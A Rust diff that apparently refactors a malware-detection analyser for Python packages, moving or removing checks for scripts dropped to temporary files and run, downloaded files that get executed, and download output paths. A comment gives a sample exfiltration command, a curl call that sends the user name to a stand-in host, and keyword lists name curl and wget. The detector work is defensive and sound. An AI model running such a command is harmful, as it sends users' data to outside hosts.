@@ -2,6 +2,7 @@
 
 use hognose_python::{Call, Cell, Effect, Names, Site, Taint, Value};
 
+use super::dropped::output_of;
 use super::labels as l;
 use super::witness::{HIDING, Witness, tainted};
 use crate::content::command::{self, Reading};
@@ -153,6 +154,7 @@ impl Witness {
             }
         }
         self.starts_script(site, shown);
+        self.starts_copy(site, shown);
         // `curl http://x/?u=$USER` sends, whoever opens the connection.
         let lower = shown.to_ascii_lowercase();
         if ["curl", "wget", "http"].iter().any(|p| lower.contains(p)) {
@@ -168,26 +170,6 @@ impl Witness {
         }
     }
 
-    /// A program that writes its code into a temporary file and has another Python run it hides it.
-    fn starts_script(&mut self, site: &Site<'_>, shown: &str) {
-        if Self::trigger(site) > crate::Trigger::Import || !shown.contains("python") {
-            return;
-        }
-        let Some(ledger) = self.ledgers.get(&site.module.0) else {
-            return;
-        };
-        let script = ledger.scripts.iter().find(|(path, _)| {
-            if path.is_empty() {
-                shown.contains("{}")
-            } else {
-                shown.contains(path.as_str())
-            }
-        });
-        if let Some(text) = script.map(|(_, text)| text.clone()) {
-            self.add(site, F::HiddenCode, &text);
-        }
-    }
-
     /// Commands written to the input of a shell.
     pub(super) fn fed(&mut self, site: &Site<'_>, cell: &Cell) {
         let text = match &cell.value {
@@ -200,49 +182,6 @@ impl Witness {
                 self.add(site, kind, &detail);
             }
         }
-    }
-
-    /// Where the bytes of the file that is started came from, when the program wrote it.
-    pub(super) fn runs_dropped(
-        &mut self,
-        site: &Site<'_>,
-        shown: &str,
-        taint: Taint,
-    ) -> Option<Taint> {
-        if taint.has(l::DOWNLOADED_PATH) {
-            return Some(l::NETWORK);
-        }
-        let ledger = self.ledgers.get(&site.module.0)?;
-        let lower = shown.to_ascii_lowercase();
-        ledger.dropped().iter().find_map(|(path, origin)| {
-            if path.len() > 3
-                && path.ends_with('/')
-                && shown.split(' ').any(|w| w.starts_with(path))
-            {
-                return Some(*origin);
-            }
-            let name = path
-                .rsplit(['/', '\\'])
-                .next()
-                .unwrap_or_default()
-                .to_ascii_lowercase();
-            let named = !name.is_empty()
-                && name != "{}"
-                && lower
-                    .split([' ', '"', '\'', ';', '&', '|'])
-                    .any(|word| word.rsplit(['/', '\\']).next() == Some(&name));
-            let starts_it = named
-                && !["chmod", "unzip", "tar ", "rm ", "git ", "7z"]
-                    .iter()
-                    .any(|p| lower.starts_with(p));
-            // Neither side is known: a path in a variable was written, a path in a variable is started.
-            let both_unknown = (name.is_empty() || name == "{}")
-                && (lower.starts_with("subprocess.")
-                    || lower.starts_with("os.")
-                    || lower.starts_with("{}")
-                    || lower.starts_with("python {}"));
-            (starts_it || both_unknown).then_some(*origin)
-        })
     }
 
     pub(super) fn exec(&mut self, site: &Site<'_>, call: &Call<'_>) -> Effect {
@@ -321,16 +260,6 @@ fn command_text(cell: &Cell, path: &str, names: &Names) -> String {
             }
         }
     }
-}
-
-/// The file a command downloads into.
-fn output_of(command: &str) -> Option<&str> {
-    let mut words = command.split(' ');
-    words.find(|w| {
-        matches!(*w, "-o" | "--output" | "--output-document" | "-OutFile")
-            || (*w == "-O" && command.contains("wget"))
-    })?;
-    words.next().filter(|w| !w.is_empty())
 }
 
 /// A build tool that is told to run a file or to publish does more than build.
